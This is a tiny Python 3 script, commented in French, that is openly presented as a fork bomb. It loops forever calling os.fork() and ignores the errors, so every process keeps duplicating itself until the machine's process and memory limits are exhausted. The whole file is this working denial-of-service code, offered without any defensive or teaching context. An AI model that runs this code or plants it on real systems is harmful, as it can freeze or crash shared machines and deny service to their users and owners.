#!/usr/bin/python3
# Une « fork bomb » : chaque processus se duplique sans fin.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
